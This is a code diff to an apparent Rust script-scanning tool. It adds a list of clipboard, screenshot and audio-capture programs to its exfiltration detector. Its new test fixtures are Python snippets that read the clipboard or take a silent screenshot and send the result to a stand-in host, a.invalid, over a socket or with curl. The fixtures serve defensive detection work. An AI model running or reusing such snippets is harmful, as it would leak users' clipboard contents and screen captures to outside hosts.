@@ -28,6 +28,18 @@ const WATCHES: &[(&str, &str, Watched)] = &[
     ("cv2", "VideoCapture", Watched::Shown),
 ];
 
+/// Programs that print it or write it down.
+const PROGRAMS: &[(&str, Watched)] = &[
+    ("pbpaste", Watched::Copied),
+    ("wl-paste", Watched::Copied),
+    ("screencapture", Watched::Shown),
+    ("gnome-screenshot", Watched::Shown),
+    ("scrot", Watched::Shown),
+    ("maim", Watched::Shown),
+    ("grim", Watched::Shown),
+    ("arecord", Watched::Said),
+];
+
 /// What is taken.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 enum Watched {
@@ -60,7 +72,16 @@ impl Flow<'_> {
             }
             _ => None,
         });
-        let Some((at, what)) = taken else { return };
+        let by_program = || {
+            self.lexed.tokens.iter().find_map(|placed| match &placed.token {
+                Token::Text(line) | Token::Command(line) => {
+                    let program = line.split_whitespace().next()?;
+                    PROGRAMS.iter().find(|(known, _)| *known == program).map(|(_, what)| (placed.at, *what))
+                }
+                _ => None,
+            })
+        };
+        let Some((at, what)) = taken.or_else(by_program) else { return };
         let severity = if what == Watched::Copied { told.by_itself() } else { Some(Severity::Warning) };
         told.tell(&rules::EXFIL, at, &format!("{} in a script that sends", what.name()), severity);
     }
@@ -102,6 +123,18 @@ mod tests {
                 "python3",
                 "a.py",
                 "import mss, requests\nwith mss.mss() as s:\n    s.shot(output='/tmp/s.png')\nrequests.post('http://a.invalid', files={'f': open('/tmp/s.png', 'rb')})\n",
+                Severity::Warning,
+            ),
+            (
+                "python3",
+                "a.py",
+                "import socket, subprocess\nt = subprocess.run(['pbpaste'], capture_output=True).stdout\nsocket.create_connection(('a.invalid', 9)).sendall(t)\n",
+                Severity::Danger,
+            ),
+            (
+                "python3",
+                "a.py",
+                "import subprocess\nsubprocess.run(['screencapture', '-x', '/tmp/a.png'])\nsubprocess.run(['curl', '-F', 'f=@/tmp/a.png', 'https://a.invalid/f'])\n",
                 Severity::Warning,
             ),
             ("python3", "a.py", "import pyperclip\nprint(len(pyperclip.paste()))\n", Severity::Info),
